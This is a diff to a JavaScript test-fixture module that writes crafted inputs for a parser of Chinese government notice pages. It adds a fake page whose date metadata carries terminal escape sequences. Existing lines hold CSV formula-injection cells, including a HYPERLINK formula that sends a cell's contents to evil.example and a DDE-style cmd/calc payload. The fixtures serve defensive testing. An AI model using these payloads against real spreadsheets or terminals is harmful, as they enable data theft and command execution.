@@ -36,10 +36,31 @@ export function csvInjectionNotice() {
 /** The formula-like cells csvInjectionNotice() puts in its task table. */
 export const CSV_INJECTION_CELLS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")", "@SUM(1+1)*cmd", "+1+cmd|' /C calc'!A0", "-2+3"];
 
+/** Escape sequences that clear the screen, recolour and retitle a terminal, plus a C1 CSI. */
+export const ESC_SEQUENCES = "\x1b[2J\x1b[31m\x1b]0;pwned\x07\x9b1m";
+
+/**
+ * A government page whose info-disclosure metadata carries terminal escapes: its 成文日期
+ * disagrees with the signature, so the metadata value is quoted in a warning.
+ */
+export function escapeMetadataPage() {
+  return `<!DOCTYPE html><html><head><meta charset="utf-8"><title>通知</title></head><body>
+<table class="meta"><tr><td>索引号：</td><td>0001-2019-00001</td><td>发文机关：</td><td>某某市科学技术协会</td></tr>
+<tr><td>成文日期：</td><td>2019年5月4日${ESC_SEQUENCES}</td><td>发文字号：</td><td>某科协〔2019〕1号</td></tr></table>
+<div class="article"><h1>关于开展科普活动的通知</h1>
+<p>各县区科协：</p>
+<p>现将有关事项通知如下。</p>
+<p>一、活动时间</p><p>全年。</p>
+<p style="text-align:right">某某市科学技术协会</p>
+<p style="text-align:right">2019年6月1日</p></div></body></html>
+`;
+}
+
 /** Write every crafted input into `dir`. */
 export function writeAll(dir) {
   mkdirSync(dir, { recursive: true });
   writeFileSync(path.join(dir, "csv-injection.txt"), csvInjectionNotice());
+  writeFileSync(path.join(dir, "escape-metadata.html"), escapeMetadataPage());
 }
 
 if (process.argv[1] && path.resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
